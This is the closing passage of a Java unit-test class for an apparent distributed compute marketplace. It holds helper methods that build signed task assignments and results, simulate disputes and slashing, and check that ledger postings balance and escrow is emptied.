    }

    private Effects assign(Identity w, int replica, int attempt) {
        return step(cases.onTask(signedTask(w, replica, attempt), now, job));
    }

    private Effects submit(TaskResult r) {
        return step(cases.onResult(r, now, job));
    }

    private Effects command(CommandType type, int replica, String reason) {
        return step(cases.onCommand(JobCommand.newBuilder().setEventId(UUID.randomUUID().toString()).setJobId(job.jobId())
                .setClientId("client-1").setType(type).setReplica(replica).setReason(reason).setTimestamp(T0).build(), now, job));
    }

    /** A DISPUTE as the matcher's admission hands it on, its fee held ({@link #held}). */
    private Effects dispute(long feeHeldMicros) {
        return step(cases.onCommand(JobCommand.newBuilder().setEventId(UUID.randomUUID().toString()).setJobId(job.jobId())
                .setClientId("client-1").setType(CommandType.DISPUTE).setFeeHeldMicros(feeHeldMicros).setTimestamp(T0)
                .build(), now, job));
    }

    private SlashResult lastSlash;

    /** The matcher gate's result of a SLASH of this job's dispute. */
    private Effects slash(SlashTaken taken) {
        lastSlash = new SlashResult(UUID.randomUUID().toString(), job.jobId(), "client-1", taken, T0);
        return step(cases.onSlash(lastSlash, now, job));
    }

    /** Admission's hold of the job's dispute fee. */
    private LedgerEntry held(long feeMicros) {
        return io.agora.market.Postings.disputeFee(job.jobId(), "client-1", feeMicros, now);
    }

    private Effects tick(long at) {
        return step(cases.onTick(at, job));
    }

    /** A 2-of-2 job (w1, w2) whose two results agree on A: it completes. */
    private JobVerdict agreeTwoOfTwo(int maxTotal) {
        terms = terms(Strategy.K_OF_N, 2, 2, maxTotal);
        assign(w1, 0, 0);
        assign(w2, 1, 0);
        submit(result(w1, 0, 0, A, 1_000));
        JobVerdict v = single(submit(result(w2, 1, 0, A, 1_000)), JobVerdict.class);
        assertThat(v.getOutcome()).isEqualTo(Outcome.COMPLETED);
        return v;
    }

    /** The stake orders among the effects, by worker. */
    private static Map<String, io.agora.events.StakeOrder> stakeOrders(Effects e) {
        Map<String, io.agora.events.StakeOrder> m = new java.util.LinkedHashMap<>();
        values(e, ReputationChanged.class).stream().filter(r -> r.getStake() != null)
                .forEach(r -> m.put(r.getWorkerId(), r.getStake()));
        return m;
    }

    // ---- records -----------------------------------------------------------------------------

    private static JobTerms terms(Strategy strategy, int n, int k, int maxTotal) {
        return JobTerms.newBuilder()
                .setClientId("client-1").setPool("public").setRedundancy(n).setQuorum(k).setStrategy(strategy)
                .setMaxTotalResults(maxTotal).setMaxPricePerCpuSecondMicros(MAX_PRICE)
                .setEscrowMicros(Pricing.maxCost(SPEC, MAX_PRICE, maxTotal))
                .setSubmittedAt(T0).setDeadline(Instant.ofEpochMilli(DEADLINE)).build();
    }

    private TaskAssigned task(Identity w, int replica, int attempt) {
        String jobId = job.jobId();
        return TaskAssigned.newBuilder()
                .setEventId(UUID.randomUUID().toString()).setTaskId(jobId + "/" + replica + "/" + attempt).setJobId(jobId)
                .setWorkerId(w.workerId()).setReplica(replica).setAttempt(attempt).setSpec(spec).setTerms(terms)
                .setPricePerCpuSecondMicros(WORKER_PRICE).setPricePerGpuSecondMicros(gpuPrice)
                .setPricePerGbSecondMicros(memoryPrice).setLeaseDeadline(T0.plusSeconds(30)).setScore(0.9)
                .setExplain("test").setAssignedAt(assignedAt).build();
    }

    /** The task as the matcher sends it: signed with its key. */
    private TaskAssigned signedTask(Identity w, int replica, int attempt) {
        return Assignments.sign(task(w, replica, attempt), matcher);
    }

    private TaskResult result(Identity w, int replica, int attempt, String stdout, long durationMs) {
        String jobId = job.jobId();
        TaskResult r = TaskResult.newBuilder()
                .setEventId(UUID.randomUUID().toString()).setTaskId(jobId + "/" + replica + "/" + attempt).setJobId(jobId)
                .setWorkerId(w.workerId()).setReplica(replica).setAttempt(attempt).setStatus(ResultStatus.SUCCEEDED)
                .setExitCode(0).setOutputSha256(hash(stdout)).setStdout(stdout).setDurationMs(durationMs)
                .setStartedAt(T0).setFinishedAt(T0.plusMillis(durationMs)).setSeq(1).setSignature(ByteBuffer.allocate(0))
                .build();
        return Signatures.sign(r, w.privateKey());
    }

    private TaskResult handedBack(Identity w, int replica, int attempt) {
        TaskResult r = result(w, replica, attempt, "", 0);
        r.setStatus(ResultStatus.HANDED_BACK);
        r.setExitCode(-1);
        r.setOutputSha256("");
        return Signatures.sign(r, w.privateKey());
    }

    /** A signed result that votes for {@code agreed}'s hash but carries {@code stdout}. */
    private TaskResult claiming(Identity w, int replica, int attempt, String agreed, String stdout) {
        TaskResult r = result(w, replica, attempt, stdout, 1_000);
        r.setOutputSha256(hash(agreed));
        return Signatures.sign(r, w.privateKey());
    }

    private TaskResult failed(Identity w, int replica, int attempt, ResultStatus status) {
        TaskResult r = result(w, replica, attempt, "", 10_000);
        r.setStatus(status);
        r.setExitCode(-1);
        return Signatures.sign(r, w.privateKey());
    }

    private TaskResult failedSaying(Identity w, int replica, int attempt, ResultStatus status, String reason) {
        TaskResult r = result(w, replica, attempt, "", 10_000);
        r.setStatus(status);
        r.setStatusReason(reason);
        r.setExitCode(-1);
        return Signatures.sign(r, w.privateKey());
    }

    private static String hash(String stdout) {
        return OutputHash.of(0, stdout.getBytes(StandardCharsets.UTF_8), Map.of());
    }

    // ---- effects -----------------------------------------------------------------------------

    private static <T> List<T> values(Effects e, Class<T> type) {
        return e.out().stream().filter(o -> o instanceof Emit m && type.isInstance(m.value()))
                .map(o -> type.cast(((Emit) o).value())).toList();
    }

    private static List<String> keys(Effects e, Class<?> type) {
        return e.out().stream().filter(o -> o instanceof Emit m && type.isInstance(m.value()))
                .map(o -> ((Emit) o).key()).toList();
    }

    private static <T> T single(Effects e, Class<T> type) {
        assertThat(values(e, type)).hasSize(1);
        return values(e, type).get(0);
    }

    private static List<JobEvent> events(Effects e) {
        return values(e, JobEvent.class);
    }

    private static List<String> deadLetters(Effects e) {
        assertThat(e.out()).allMatch(o -> o instanceof DeadLetter);
        return e.out().stream().map(o -> ((DeadLetter) o).reason()).toList();
    }

    /** Net reputation change by worker; each record is keyed by its worker. */
    private static Map<String, Integer> reputation(Effects e) {
        assertThat(e.out()).filteredOn(o -> o instanceof Emit m && m.value() instanceof ReputationChanged)
                .allMatch(o -> ((Emit) o).key().equals(((ReputationChanged) ((Emit) o).value()).getWorkerId()));
        return values(e, ReputationChanged.class).stream()
                .collect(Collectors.groupingBy(ReputationChanged::getWorkerId, Collectors.summingInt(ReputationChanged::getDelta)));
    }

    private static long balance(List<LedgerEntry> entries, String account) {
        return entries.stream().flatMap(x -> x.getPostings().stream())
                .filter(p -> p.getAccountId().equals(account)).mapToLong(Posting::getAmountMicros).sum();
    }

    /** Every entry balanced, each transaction once, and the dispute's fee account back at zero. */
    private void assertDisputeFeeSettled(List<LedgerEntry> entries) {
        for (LedgerEntry x : entries) {
            assertThat(x.getKind()).isEqualTo(io.agora.events.EntryKind.DISPUTE_FEE);
            assertThat(x.getPostings().stream().mapToLong(Posting::getAmountMicros).sum())
                    .as("postings of %s", x.getTransactionId()).isZero();
        }
        assertThat(entries).extracting(LedgerEntry::getTransactionId).doesNotHaveDuplicates();
        assertThat(balance(entries, Accounts.disputeEscrow(job.jobId()))).as("the dispute's fee account").isZero();
    }

    private void assertBalancedAndEscrowEmptied(List<LedgerEntry> entries) {
        for (LedgerEntry x : entries) {
            assertThat(x.getPostings().stream().mapToLong(Posting::getAmountMicros).sum())
                    .as("postings of %s", x.getTransactionId()).isZero();
        }
        assertThat(terms.getEscrowMicros() + balance(entries, Accounts.escrow(job.jobId())))
                .as("escrow after settlement").isZero();
    }
}
